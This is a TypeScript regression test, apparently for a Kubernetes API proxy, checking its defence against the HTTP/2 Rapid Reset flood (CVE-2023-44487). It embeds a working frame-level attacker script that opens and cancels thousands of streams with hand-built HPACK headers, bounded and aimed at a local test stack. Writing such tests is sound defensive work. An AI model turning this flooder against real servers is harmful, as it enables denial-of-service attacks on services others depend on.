// Attack class: HTTP/2 Rapid Reset (CVE-2023-44487). A client opens streams and
// cancels each at once with RST_STREAM: cancelled streams do not count against
// SETTINGS_MAX_CONCURRENT_STREAMS, so one connection can make the server start
// unbounded work (here: authenticate and forward to kube-apiserver) at no cost to itself.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readdirSync } from 'node:fs';
import { connect as h2connect, constants, type ClientHttp2Session, type IncomingHttpHeaders } from 'node:http2';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import t from 'tap';
import { startStack, untilReady, type Stack } from '../helpers/stack.js';

/** The flood is bounded in count and time. */
const FLOOD_STREAMS = 20_000;
const FLOOD_MS = 5_000;
const MiB = 1024 * 1024;

setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;
const heapAfterGC = () => (gc(), process.memoryUsage().heapUsed);

function connect(url: string, ca: string): Promise<ClientHttp2Session> {
  const session = h2connect(url, { ca });
  session.on('error', () => {});
  return once(session, 'connect').then(() => session);
}

interface FloodResult {
  readonly streams: number;
  /** Per connection: streams sent, the first GOAWAY code seen (null: none), whether the proxy closed it, and when (ms after opening; 0: never). */
  readonly sessions: { streams: number; goaway: number | null; closedByProxy: boolean; ms: number }[];
}

/**
 * The attacker, in a process of its own so that its work does not slow the proxy's
 * event loop and spoil the other client's latencies. It speaks HTTP/2 frame by frame,
 * as the published exploits do: each stream is a HEADERS frame (the token sent once,
 * then referenced from the HPACK table: 5 bytes) and a RST_STREAM (CANCEL) in the
 * same write, in batches of 100, reconnecting whenever the proxy ends a connection,
 * until FLOOD_STREAMS or FLOOD_MS. Prints a FloodResult.
 *
 * Not node:http2's client: a stream closed while its HEADERS still wait in the
 * session's queue is never sent at all, and the client stops reading while a write
 * is pending, so a fast flood never sees the proxy's GOAWAY or close.
 */
const ATTACKER = `
import { connect } from 'node:tls';
const { url, ca, authorization, path, maxStreams, maxMs } = JSON.parse(process.env.FLOOD);
const { hostname, port, host } = new URL(url);
const frame = (type, flags, id, payload) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
};
// A string length: an HPACK integer with a 7-bit prefix (RFC 7541 5.1), no Huffman coding.
const hpackLength = (n) => {
  if (n < 127) return [n];
  const bytes = [127];
  for (n -= 127; n >= 128; n = Math.floor(n / 128)) bytes.push((n % 128) + 128);
  return [...bytes, n];
};
// "Literal with incremental indexing, indexed name" (RFC 7541 6.2.1): static names :authority 1, :path 4, authorization 23.
const literal = (nameIndex, value) => Buffer.from([0x40 | nameIndex, ...hpackLength(Buffer.byteLength(value)), ...Buffer.from(value)]);
// GET, https, then the three literals; afterwards the dynamic table holds authorization 62, :path 63, :authority 64.
const firstBlock = Buffer.concat([Buffer.from([0x82, 0x87]), literal(1, host), literal(4, path), literal(23, authorization)]);
const nextBlock = Buffer.from([0x82, 0x87, 0x80 | 64, 0x80 | 63, 0x80 | 62]);
const cancel = Buffer.from([0, 0, 0, 8]);
const started = Date.now();
const sessions = [];
let streams = 0;
const more = () => streams < maxStreams && Date.now() - started < maxMs;
while (more()) {
  const record = { streams: 0, goaway: null, closedByProxy: false, ms: 0 };
  sessions.push(record);
  const opened = Date.now();
  const socket = connect({ host: hostname, port: Number(port), ca, servername: 'localhost', ALPNProtocols: ['h2'] });
  socket.on('error', () => {});
  let closed = false;
  const done = new Promise((resolve) => socket.once('close', () => ((closed = true), (record.ms = Date.now() - opened), resolve())));
  let inbox = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    inbox = Buffer.concat([inbox, chunk]);
    while (inbox.length >= 9 && inbox.length >= 9 + inbox.readUIntBE(0, 3)) {
      const [length, type, flags] = [inbox.readUIntBE(0, 3), inbox[3], inbox[4]];
      if (type === 4 && !(flags & 1)) socket.write(frame(4, 1, 0, Buffer.alloc(0))); // SETTINGS ACK
      if (type === 7) record.goaway ??= inbox.readUInt32BE(13);
      if (type === 6 && flags & 1) socket.emit('pong');
      inbox = inbox.subarray(9 + length);
    }
  });
  await Promise.race([new Promise((resolve) => socket.once('secureConnect', resolve)), done]);
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'), frame(4, 0, 0, Buffer.alloc(0))]));
  let id = 1;
  while (more() && !closed && record.goaway === null) {
    const batch = [];
    for (let i = 0; i < 100; i++, id += 2) batch.push(frame(1, 0x5, id, id === 1 ? firstBlock : nextBlock), frame(3, 0, id, cancel));
    streams += 100;
    record.streams += 100;
    // A PING after each batch, and the next batch once it is answered: as fast as the proxy
    // reads, and no faster (bytes it has not read when it closes the connection are lost).
    batch.push(frame(6, 0, 0, Buffer.alloc(8)));
    socket.write(Buffer.concat(batch));
    await Promise.race([new Promise((resolve) => socket.once('pong', resolve)), done]);
  }
  // After a GOAWAY, the connection is the proxy's to close: a client that keeps it open
  // costs it a descriptor. Wait up to 3 s for that.
  if (record.goaway !== null) await Promise.race([done, new Promise((resolve) => setTimeout(resolve, 3000))]);
  record.closedByProxy = closed;
  socket.destroy();
}
process.stdout.write(JSON.stringify({ streams, sessions }), () => process.exit(0));
`;

async function rapidReset(url: string, ca: string, path: string, authorization: string): Promise<FloodResult> {
  const child = spawn(process.execPath, ['--input-type=module', '-e', ATTACKER], {
    env: { ...process.env, FLOOD: JSON.stringify({ url, ca, path, authorization, maxStreams: FLOOD_STREAMS, maxMs: FLOOD_MS }) },
    stdio: ['ignore', 'pipe', 'inherit'],
    timeout: FLOOD_MS + 10_000,
  });
  let out = '';
  child.stdout.on('data', (c: Buffer) => (out += c.toString()));
  const [code] = (await once(child, 'exit')) as [number];
  if (code !== 0) throw new Error(`the attacker process exited with ${code}`);
  return JSON.parse(out) as FloodResult;
}

/** Requests the proxy began to handle (each ends with an audit line and this counter, 499 when cancelled). */
async function requestsHandled(stack: Stack): Promise<number> {
  const metric = await stack.proxy.metrics.registry.getSingleMetric('kfp_requests_total')!.get();
  return metric.values.reduce((sum, v) => sum + v.value, 0);
}


const openDescriptors = () => readdirSync('/proc/self/fd').length;

t.test('a rapid-reset flood is cut short, and other clients are served meanwhile', async (t) => {
  const stack = await startStack(t);
  await untilReady(stack.proxy);
  const auth = { authorization: `Bearer ${await stack.mint()}` };
  const floodPath = '/api/v1/namespaces/flood/pods';

  // A well-behaved client on its own connection, one request after another for as long as the flood lasts.
  const victim = await connect(stack.proxy.url, stack.servingCA);
  t.teardown(() => victim.destroy());
  const ask = () =>
    new Promise<{ status: number; ms: number }>((resolve) => {
      const sent = Date.now();
      const stream = victim.request({ ':path': '/api', ...auth }, { endStream: true });
      let status = 0;
      stream.on('response', (h: IncomingHttpHeaders) => (status = Number(h[':status'])));
      stream.on('error', () => {});
      stream.on('close', () => resolve({ status, ms: Date.now() - sent }));
      stream.resume();
    });
  t.equal((await ask()).status, 200, 'served before the flood');

  // The proxy runs in this process: its memory and descriptors are this process's.
  const before = { heap: heapAfterGC(), rss: process.memoryUsage().rss, fds: openDescriptors(), handled: await requestsHandled(stack) };
  const peak = { rss: before.rss, fds: before.fds };
  const sampler = setInterval(() => {
    peak.rss = Math.max(peak.rss, process.memoryUsage().rss);
    peak.fds = Math.max(peak.fds, openDescriptors());
  }, 50);
  t.teardown(() => clearInterval(sampler));

  let flooding = true;
  const answers: { status: number; ms: number }[] = [];
  const victimLoop = (async () => {
    while (flooding) answers.push(await ask());
  })();
  const flood = await rapidReset(stack.proxy.url, stack.servingCA, floodPath, auth.authorization);
  flooding = false;
  await victimLoop;
  clearInterval(sampler);
  await new Promise((r) => setTimeout(r, 500)); // the last cancelled requests settle
  const heapGrowth = heapAfterGC() - before.heap;

  const handled = (await requestsHandled(stack)) - before.handled - answers.length;
  const reachedUpstream = stack.upstream.seen.filter((r) => r.url.startsWith(floodPath)).length;
  const slowest = Math.max(...answers.map((a) => a.ms));
  const cut = flood.sessions.slice(0, -1);
  t.comment(
    JSON.stringify({
      streamsSent: flood.streams,
      connections: flood.sessions.length,
      perConnection: { streams: cut.map((s) => s.streams), msOpen: cut.map((s) => s.ms), goaway: [...new Set(cut.map((s) => s.goaway))], closedByProxy: [...new Set(cut.map((s) => s.closedByProxy))] },
      handled,
      reachedUpstream,
      victim: { requests: answers.length, slowestMs: slowest },
      heapGrowthMiB: +(heapGrowth / MiB).toFixed(1),
      rssPeakGrowthMiB: +((peak.rss - before.rss) / MiB).toFixed(1),
      descriptorsPeakGrowth: peak.fds - before.fds,
    }),
  );

  t.ok(cut.length >= 2, `the proxy ended the flooding connections (${flood.sessions.length} used)`);
  t.same(cut.filter((s) => s.goaway !== constants.NGHTTP2_ENHANCE_YOUR_CALM), [], 'each with GOAWAY ENHANCE_YOUR_CALM');
  t.same(cut.filter((s) => !s.closedByProxy), [], 'and closed it, not waiting for the client to');
  // The proxy's bucket is 500 early resets, refilled at 33 a second; nghttp2's alone let 1,100 in.
  t.ok(handled <= flood.sessions.length * 700, `the proxy began at most 700 requests per connection (${handled} on ${flood.sessions.length})`);
  t.ok(reachedUpstream <= handled / 10, `at most a tenth of those reached the upstream (${reachedUpstream})`);
  t.ok(answers.length >= 10, `the other client kept being answered (${answers.length} requests)`);
  // (On Node 26 the upstream's accept queue overflows: one request waited 10 s, then 504.)
  t.same(answers.filter((a) => a.status !== 200), [], 'every one of its requests succeeded');
  t.ok(slowest < 2_000, `its slowest answer took under 2 s (${slowest} ms)`);
  t.ok(peak.fds - before.fds < 200, `the proxy's descriptors grew by fewer than 200 (${peak.fds - before.fds})`);
  t.ok(heapGrowth < 32 * MiB, `the heap (after GC) grew by less than 32 MiB`);
  t.ok(peak.rss - before.rss < 256 * MiB, `resident memory peaked less than 256 MiB above the start`);
  t.equal((await ask()).status, 200, 'served after the flood');
});
